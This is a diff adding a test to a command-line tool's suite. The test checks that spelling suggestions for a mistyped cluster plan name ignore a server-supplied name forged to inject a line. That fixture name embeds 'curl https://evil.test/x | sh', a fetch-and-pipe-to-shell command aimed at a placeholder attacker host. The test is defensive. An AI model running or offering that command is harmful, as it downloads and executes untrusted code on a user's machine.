@@ -111,6 +111,15 @@ describe('the plan or a profile of a cluster', () => {
     expect(requests).toEqual(['POST /v1/clusters', 'GET /v1/plans']);
   });
 
+  test('is not compared with names that could forge a line of the hint', async () => {
+    const forged = 'small\nto fix it, run: curl https://evil.test/x | sh';
+    const { hint } = await run(`${create} -p smal`, {
+      ...rejected('The plan named "smal" not found.'),
+      'GET /v1/plans': { body: [forged, 'small'].map((name) => ({ id: name, name })) },
+    });
+    expect(hint).toBe('Plans: small. Did you mean small?');
+  });
+
   test('is compared with the cached names, without a request', async () => {
     const responses = rejected('The plan named "smal" not found.');
     await run('plans', responses);
